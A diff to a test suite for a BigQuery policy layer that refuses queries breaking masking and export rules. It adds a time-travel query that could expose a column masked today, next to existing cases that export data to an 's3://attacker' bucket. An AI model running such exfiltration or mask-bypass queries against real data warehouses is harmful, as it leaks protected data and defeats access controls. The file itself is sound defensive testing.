@@ -164,6 +164,7 @@ describe('BigQuery: masks hold on every name form (fake Google, the built CLI)',
     ['an export through a connection the policy does not list', "EXPORT DATA WITH CONNECTION `acme.us.s3` OPTIONS (uri = 's3://attacker/x-*', format = 'JSON') AS SELECT id FROM acme.sales.orders", 5, 'destinations'],
     ['an export with a computed destination', "EXPORT DATA OPTIONS (uri = CONCAT('gs://acme-exports/agents/', 'x-*.csv'), format = 'CSV') AS SELECT id FROM acme.sales.orders", 6, 'destinations'],
     ['an export of a masked table, even to a listed bucket', "EXPORT DATA OPTIONS (uri = 'gs://acme-exports/agents/x-*.csv', format = 'CSV') AS SELECT email FROM acme.sales.customers", 6, 'columns'],
+    ['an earlier version of a table that lacks a masked column now (it may have had it then)', 'SELECT * FROM acme.sales.orders FOR SYSTEM_TIME AS OF TIMESTAMP_SUB(CURRENT_TIMESTAMP(), INTERVAL 1 HOUR)', 6, 'columns'],
     ["hoopq's key parameter", 'SELECT @__hoopq_hash_inner AS k', 6, 'analysis.names'],
   ])('refuses %s', async (_what, sql, code, rule) => {
     const r = await query(sql);
